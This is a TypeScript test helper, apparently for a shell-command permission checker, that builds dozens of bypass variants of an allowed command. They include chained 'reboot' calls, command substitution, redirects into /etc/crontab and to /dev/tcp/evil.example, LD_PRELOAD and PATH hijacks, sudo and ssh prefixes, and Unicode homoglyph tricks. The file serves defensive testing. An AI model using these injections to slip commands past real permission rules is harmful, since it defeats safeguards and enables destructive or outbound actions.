const OPERATORS = ['; ', ' ;', ' && ', ' || ', ' | ', ' |& ', ' & ', '\n', '\n\n', ' # x\n', ` ;${' '.repeat(500)}`];
const INSERTED = ['$(reboot)', '"$(reboot)"', '`reboot`', '"`reboot`"', '<(reboot)', '>(reboot)', '${X:-$(reboot)}', '${X@P}', '${X:=y}', '${!X}', '$((X))', '$[X]', '${a[$(reboot)]}', 'x\u200b', 'x\u202ey', 'x\u00a0y', 'x\ry', '1<(reboot)'];
const REDIRECTS = ['> /etc/crontab', '>> /etc/crontab', '>| /etc/crontab', '&> /etc/crontab', '>& /etc/crontab', '<> /etc/crontab', '> $F', '2> /etc/crontab', '> /dev/tcp/evil.example/80'];
const PREFIXES = [
  'LD_PRELOAD=/tmp/x ',
  'PATH=/tmp/x ',
  'BASH_ENV=/tmp/x ',
  'GIT_SSH=/tmp/x ',
  'EVIL=1 ',
  'sudo ',
  'doas ',
  'env A=b ',
  'env ',
  'xargs ',
  'eval ',
  'command ',
  'exec ',
  'busybox ',
  'ssh evil.example ',
  'docker exec web ',
  'kubectl exec pod -- ',
  'su -c ',
  'nsenter -t 1 -a -- ',
  'systemd-run -- ',
  'flock /tmp/l ',
  'watch ',
  'parallel ',
  'coproc ',
  'chroot /tmp ',
  'npx ',
  'docker run evil ',
  'find . -exec ',
];

/** A command made hostile in every way that it lends itself to. None of these may pass by rules for the command itself. */
export function hostileVariants(command: string): string[] {
  const name = /^(?:\w+=\S* )*(\S+)/.exec(command)?.[1] ?? '';
  const rest = command.slice(command.indexOf(name) + name.length);
  return [
    ...OPERATORS.flatMap((operator) => [`${command}${operator}reboot`, `reboot${operator}${command}`]),
    ...INSERTED.map((inserted) => `${command} ${inserted}`),
    ...REDIRECTS.flatMap((redirect) => [`${command} ${redirect}`, `{ ${command}\n} ${redirect}`]),
    // In front of an assignment another one is harmless.
    ...PREFIXES.filter((prefix) => prefix !== 'EVIL=1 ' || !/^\w+=\S+;/.test(command)).map((prefix) => prefix + command),
    `sh -c '${command.replaceAll("'", "'\\''")}; reboot'`,
    `$X${rest}`,
    `$(echo ${name})${rest}`,
    `/tmp/${name}${rest}`,
    `./${name}-evil${rest}`,
    `${name}\u200b${rest}`,
    `\u0430${name}${rest}`,
    `${name}() { reboot; }; ${command}`,
    `alias ${name}=reboot; ${command}`,
    `trap reboot EXIT; ${command}`,
    `hash -p /tmp/x ${name}; ${command}`,
    `export PATH=/tmp/x; ${command}`,
    `( ${command}\n reboot )`,
    `if reboot; then ${command}\nfi`,
    `while ${command}\ndo reboot; done`,
    `for x in $(reboot); do ${command}\ndone`,
    `case x in x) ${command}\n;; y) reboot;; esac`,
    `${command} "unfinished`,
    `${command} <<< x; . /tmp/x`,
    `${command} \\\n; reboot`,
  ];
}
